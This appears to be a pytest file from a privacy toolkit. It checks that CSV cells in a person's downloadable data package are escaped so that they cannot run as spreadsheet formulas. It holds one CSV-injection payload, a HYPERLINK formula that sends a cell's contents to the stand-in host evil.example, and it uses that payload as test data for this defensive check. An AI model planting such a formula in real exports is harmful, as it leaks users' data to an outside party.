"""The package a person downloads: its CSV files go through the toolkit's one CSV writer."""

from __future__ import annotations

import csv
import io
import uuid
import zipfile
from typing import Any

from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker

from consent.models import ConsentRecord, ConsentSubject
from privacy.db import utcnow
from privacy.keys import keyring_of
from tests.dsar.conftest import ADA, Client, download, verified
from tests.mail_fixtures import Mailbox

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


async def crafted_consent_choice(sessions: async_sessionmaker[AsyncSession], email: str) -> None:
    """A choice whose policy version a hostile site owner made look like a formula."""
    consent_id, now = uuid.uuid4(), utcnow()
    async with sessions() as session, session.begin():
        session.add(
            ConsentRecord(
                consent_id=consent_id, recorded_at=now, site="@www", policy_version=FORMULA, text_hash="0" * 64,
                country="DE", region=None, regime="opt_in", jurisdiction_source="cdn", gpc=False, action="custom",
                granted=["necessary"], denied=["advertising"], ui="banner", ip_truncated="203.0.0.0",
                valid_until=now,
            )
        )  # fmt: skip
        session.add(
            ConsentSubject(
                consent_id=consent_id,
                site="@www",
                subject_hash="s" * 64,
                email_hash=keyring_of(session).lookup_hash(email),
                linked_at=now,
            )
        )


async def test_package_csv_cells_cannot_run_as_formulas(
    person: Client, mailbox: Mailbox, background: Any, dsar_sessions: async_sessionmaker[AsyncSession]
) -> None:
    await crafted_consent_choice(dsar_sessions, ADA)
    granted = await verified(person, mailbox, background)
    await background()
    answer = await download(person, granted)
    assert answer.status_code == 200
    archive = zipfile.ZipFile(io.BytesIO(answer.content))
    text = archive.read("csv/privacy-toolkit/consent_choices.csv").decode()
    [choice] = list(csv.DictReader(io.StringIO(text, newline="")))
    assert choice["policy_version"] == "'" + FORMULA
    assert choice["site"] == "'@www"
    assert choice["gpc"] == "False"
